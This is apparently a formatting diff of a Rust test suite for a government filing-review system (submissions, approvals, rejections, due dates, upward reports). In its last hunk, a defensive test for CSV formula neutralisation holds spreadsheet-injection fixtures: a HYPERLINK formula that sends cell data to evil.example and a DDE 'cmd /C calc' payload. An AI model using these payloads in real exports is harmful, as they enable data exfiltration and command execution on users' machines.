@@ -79,9 +79,7 @@ async fn received_at(
     form.collective_decision_on = "2026-08-28".into();
     form.leader_consent_on = "2026-09-01".into();
     let f = draft(app, who, FilingKind::Open, Some(platform), None, form).await;
-    filings::submit(&app.case_at(who, at), f.id)
-        .await
-        .unwrap()
+    filings::submit(&app.case_at(who, at), f.id).await.unwrap()
 }
 
 /// November 2026 for the education unit: one approved on time and reported upward, one rejected
@@ -104,7 +102,11 @@ async fn november(app: &TestApp) -> November {
     )
     .await;
     assert_eq!(approved.due_on, Some(day(2026, 11, 5)));
-    filings::approve(&app.case_at(&reviewer, china(2026, 11, 4, 10, 0)), approved.id, "")
+    filings::approve(
+        &app.case_at(&reviewer, china(2026, 11, 4, 10, 0)),
+        approved.id,
+        "",
+    )
     .await
     .unwrap();
     let report = UpwardReport {
@@ -112,7 +114,11 @@ async fn november(app: &TestApp) -> November {
         reported_to: "重庆市人民政府办公厅".into(),
         reference: "石府办报〔2026〕12号".into(),
     };
-    filings::record_report(&app.case_at(&reviewer, china(2026, 11, 5, 9, 0)), approved.id, report)
+    filings::record_report(
+        &app.case_at(&reviewer, china(2026, 11, 5, 9, 0)),
+        approved.id,
+        report,
+    )
     .await
     .unwrap();
 
@@ -125,7 +131,11 @@ async fn november(app: &TestApp) -> November {
     )
     .await;
     assert_eq!(rejected.due_on, Some(day(2026, 11, 12)));
-    filings::reject(&app.case_at(&reviewer, china(2026, 11, 16, 9, 0)), rejected.id, "与已有账号功能重复")
+    filings::reject(
+        &app.case_at(&reviewer, china(2026, 11, 16, 9, 0)),
+        rejected.id,
+        "与已有账号功能重复",
+    )
     .await
     .unwrap();
 
@@ -594,7 +604,11 @@ async fn october(app: &TestApp) {
     )
     .await;
     assert_eq!(on_time.due_on, Some(day(2026, 10, 15)));
-    filings::approve(&app.case_at(&reviewer, china(2026, 10, 15, 16, 0)), on_time.id, "")
+    filings::approve(
+        &app.case_at(&reviewer, china(2026, 10, 15, 16, 0)),
+        on_time.id,
+        "",
+    )
     .await
     .unwrap();
     // Same day, returned a day late, resubmitted in November (a November receipt).
@@ -606,10 +620,17 @@ async fn october(app: &TestApp) {
         china(2026, 10, 12, 11, 0),
     )
     .await;
-    filings::return_for_correction(&app.case_at(&reviewer, china(2026, 10, 16, 9, 0)), returned.id, "补充集体决策材料")
+    filings::return_for_correction(
+        &app.case_at(&reviewer, china(2026, 10, 16, 9, 0)),
+        returned.id,
+        "补充集体决策材料",
+    )
     .await
     .unwrap();
-    let resubmitted = filings::submit(&app.case_at(&submitter, china(2026, 11, 2, 9, 0)), returned.id)
+    let resubmitted = filings::submit(
+        &app.case_at(&submitter, china(2026, 11, 2, 9, 0)),
+        returned.id,
+    )
     .await
     .unwrap();
     assert_eq!(resubmitted.due_on, Some(day(2026, 11, 5)));
@@ -623,7 +644,11 @@ async fn october(app: &TestApp) {
     )
     .await;
     assert_eq!(september.due_on, Some(day(2026, 9, 24)));
-    filings::reject(&app.case_at(&reviewer, china(2026, 10, 9, 10, 0)), september.id, "不符合要求")
+    filings::reject(
+        &app.case_at(&reviewer, china(2026, 10, 9, 10, 0)),
+        september.id,
+        "不符合要求",
+    )
     .await
     .unwrap();
     // Received Monday 26 October, due the 29th, never decided.
@@ -646,7 +671,11 @@ async fn october(app: &TestApp) {
     )
     .await;
     assert_eq!(later.due_on, Some(day(2026, 11, 3)));
-    filings::approve(&app.case_at(&reviewer, china(2026, 11, 2, 10, 0)), later.id, "")
+    filings::approve(
+        &app.case_at(&reviewer, china(2026, 11, 2, 10, 0)),
+        later.id,
+        "",
+    )
     .await
     .unwrap();
 }
@@ -1335,14 +1364,18 @@ async fn formulas_in_a_filing_reach_the_filings_report_csv_neutralised_and_the_x
     let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
     let f = received_at(&app, &submitter, "weibo", name, china(2026, 11, 2, 10, 0)).await;
     filings::approve(&app.case_at(&reviewer, china(2026, 11, 4, 10, 0)), f.id, "")
-    .await
-    .unwrap();
+        .await
+        .unwrap();
     let report = UpwardReport {
         reported_on: "2026-11-05".into(),
         reported_to: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
         reference: "－1+1".into(),
     };
-    filings::record_report(&app.case_at(&reviewer, china(2026, 11, 5, 9, 0)), f.id, report)
+    filings::record_report(
+        &app.case_at(&reviewer, china(2026, 11, 5, 9, 0)),
+        f.id,
+        report,
+    )
     .await
     .unwrap();
     let client = app.signed_in("reviewer").await;
